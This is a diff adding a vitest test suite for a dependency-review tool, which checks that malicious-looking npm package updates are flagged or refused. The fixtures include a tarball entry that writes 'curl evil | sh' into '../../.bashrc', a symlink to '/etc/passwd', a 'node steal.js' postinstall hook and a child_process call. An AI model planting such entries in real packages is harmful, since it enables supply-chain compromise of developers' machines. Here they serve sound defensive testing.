@@ -1,0 +1,145 @@
+/**
+ * inspectDependencies against the registry stand-in on loopback: each scenario publishes the old
+ * and new versions, and the test asserts the exact report — facts, or why it was not inspected.
+ */
+import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { inspectDependencies, type InspectOptions } from "../../src/dependencies/inspect.js";
+import type { PackageChange } from "../../src/dependencies/types.js";
+import { startNpmRegistry, type NpmRegistryStandIn, type PublishOptions, type PublishedVersion } from "../helpers/npm-registry.js";
+import { packageTarball, sha512Integrity } from "../helpers/npm-tarball.js";
+
+const NOW = Date.parse("2026-03-01T12:00:00.000Z");
+const TOKEN = "npm-secret-token-1234";
+
+let registry: NpmRegistryStandIn;
+let cacheDir: string;
+let warnings: string[];
+
+beforeEach(async () => {
+  registry = await startNpmRegistry();
+  cacheDir = await mkdtemp(path.join(tmpdir(), "crewbot-npm-cache-"));
+  warnings = [];
+});
+afterEach(async () => {
+  await registry.close();
+  await rm(cacheDir, { recursive: true, force: true });
+});
+
+const options = (extra: Partial<InspectOptions> = {}): InspectOptions => ({
+  registry: { url: registry.url, token: TOKEN },
+  cacheDir,
+  maxPackages: 20,
+  log: { warn: (message) => warnings.push(message) },
+  now: () => NOW,
+  ...extra,
+});
+
+const INDEX = "module.exports = function add(a, b) { return a + b; };\n";
+
+/** Publishes old and new versions of `name` (publisher alice unless given) and the lockfile change between them. */
+function bump(name: string, oldExtra: Partial<PublishOptions>, newExtra: Partial<PublishOptions>, change: Partial<PackageChange> = {}) {
+  const old = registry.publish({ name, version: "1.0.0", files: { "index.js": INDEX }, publisher: "alice", maintainers: ["alice"], ...oldExtra });
+  const now = registry.publish({ name, version: "1.1.0", files: { "index.js": INDEX.replace("add", "sum") }, publisher: "alice", maintainers: ["alice"], ...newExtra });
+  return { old, now, change: lockChange(name, old, now, change) };
+}
+
+function lockChange(name: string, old: PublishedVersion | undefined, now: PublishedVersion | undefined, extra: Partial<PackageChange> = {}): PackageChange {
+  const version = (p: PublishedVersion) => /-(\d[^/]*)\.tgz$/.exec(p.tarballPath)![1]!;
+  return {
+    name,
+    location: `node_modules/${name}`,
+    ...(old ? { old: { version: version(old), integrity: old.integrity } } : {}),
+    ...(now ? { new: { version: version(now), integrity: now.integrity } } : {}),
+    direct: true,
+    file: "package-lock.json",
+    line: 10,
+    source: "lockfile",
+    ...extra,
+  };
+}
+
+describe("inspectDependencies: what a new version adds", () => {
+  it("a clean bump has no facts", async () => {
+    const { change } = bump("clean", {}, {});
+    expect(await inspectDependencies([change], options())).toEqual({ packages: [{ change, facts: [] }] });
+    expect(warnings).toEqual([]);
+  });
+
+  it("an added postinstall is critical and shows the command", async () => {
+    const { change } = bump("scripted", {}, { manifest: { scripts: { test: "vitest", postinstall: "node setup.js" } } });
+    const review = await inspectDependencies([change], options());
+    expect(review.packages[0]!.facts).toEqual([{ kind: "install-script", severity: "critical", text: "adds a `postinstall` script: `node setup.js`", files: ["package.json"] }]);
+  });
+
+  it("a new child_process use is a warning naming the file", async () => {
+    const { change } = bump("spawner", {}, { files: { "index.js": INDEX, "lib/run.js": 'const { execSync } = require("node:child_process");\nexecSync("id");\n' } });
+    const review = await inspectDependencies([change], options());
+    expect(review.packages[0]!.facts).toEqual([
+      { kind: "child-process", severity: "warning", text: "now starts child processes (`child_process`); the old version did not, in `lib/run.js`", files: ["lib/run.js"] },
+    ]);
+  });
+
+  it("a changed publisher is a warning", async () => {
+    const { change } = bump("handover", {}, { publisher: "mallory" });
+    const review = await inspectDependencies([change], options());
+    expect(review.packages[0]!.facts).toEqual([{ kind: "publisher", severity: "warning", text: "is published by `mallory`; the old version was published by `alice`" }]);
+  });
+
+  it("a brand-new package counts everything it has as added", async () => {
+    const now = registry.publish({ name: "fresh-cli", version: "2.0.0", manifest: { bin: { fresh: "cli.js" }, scripts: { preinstall: "node check.js" }, dependencies: { chalk: "^5.0.0" } }, files: { "cli.js": "fetch('https://example.test')" }, publishedAt: "2026-03-01T07:00:00.000Z", deprecated: "use other-cli" });
+    const change = lockChange("fresh-cli", undefined, now);
+    const review = await inspectDependencies([change], options());
+    expect(review.packages[0]!.facts).toEqual([
+      { kind: "install-script", severity: "critical", text: "adds a `preinstall` script: `node check.js`", files: ["package.json"] },
+      { kind: "bin", severity: "warning", text: "adds an executable `fresh` (`cli.js`)", files: ["cli.js"] },
+      { kind: "network", severity: "warning", text: "uses the network (`net`, `http(s)`, `dgram`, `tls`, `dns`, `fetch`, `WebSocket`), in `cli.js`", files: ["cli.js"] },
+      { kind: "new-dependency", severity: null, text: "adds a dependency: `chalk` ^5.0.0" },
+      { kind: "deprecated", severity: "warning", text: "is deprecated: “use other-cli”" },
+      { kind: "fresh-release", severity: "warning", text: "was published 5 hours before this review (under 72 hours: hijacked releases are usually caught within days)" },
+    ]);
+  });
+});
+
+describe("inspectDependencies: tarballs that are refused", () => {
+  it("an integrity mismatch is critical and the package is not compared", async () => {
+    const { change } = bump("swapped", {}, { manifest: { scripts: { postinstall: "node steal.js" } } });
+    const pinned = { ...change, new: { version: "1.1.0", integrity: sha512Integrity(packageTarball({ "package.json": "{}" })) } };
+    const review = await inspectDependencies([pinned], options());
+    expect(review.packages[0]).toEqual({
+      change: pinned,
+      facts: [{ kind: "integrity-mismatch", severity: "critical", text: "the registry's tarball of `swapped@1.1.0` does not match the lockfile's integrity (sha512): it is not the package that was pinned, so it is not compared" }],
+    });
+    expect(await readdir(cacheDir)).toEqual([]); // the refused bytes are not cached
+  });
+
+  it("an oversized tarball is not inspected and the reason says 20 MB (cut while streaming)", async () => {
+    const { change, now } = bump("huge", {}, {});
+    registry.behave(now.tarballPath, { bytes: 21 * 1024 * 1024, chunked: true });
+    const review = await inspectDependencies([change], options());
+    expect(review.packages[0]).toEqual({ change, facts: [], notInspected: "its tarball is over 20 MB" });
+    expect(warnings).toEqual(["dependency review: huge@1.1.0: its tarball is over 20 MB"]);
+  });
+
+  it("an oversized Content-Length is refused before the body", async () => {
+    const { change, now } = bump("huge-declared", {}, {});
+    registry.behave(now.tarballPath, { bytes: 25 * 1024 * 1024 });
+    expect((await inspectDependencies([change], options())).packages[0]!.notInspected).toBe("its tarball is over 20 MB");
+  });
+
+  it("a path-traversal entry is refused as critical", async () => {
+    const { change } = bump("climber", {}, { extraEntries: [{ type: "file", path: "package/../../.bashrc", body: "curl evil | sh" }] });
+    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([
+      { kind: "unsafe-entry", severity: "critical", text: "its tarball has a path out of the package folder `package/../../.bashrc`; npm refuses such entries, so it is not inspected", files: ["package/../../.bashrc"] },
+    ]);
+  });
+
+  it("a symlink entry is refused as critical", async () => {
+    const { change } = bump("linker", {}, { extraEntries: [{ type: "symlink", path: "package/config", target: "/etc/passwd" }] });
+    expect((await inspectDependencies([change], options())).packages[0]!.facts).toEqual([
+      { kind: "unsafe-entry", severity: "critical", text: "its tarball has a symbolic link `package/config` → `/etc/passwd`; npm refuses such entries, so it is not inspected", files: ["package/config"] },
+    ]);
+  });
+});
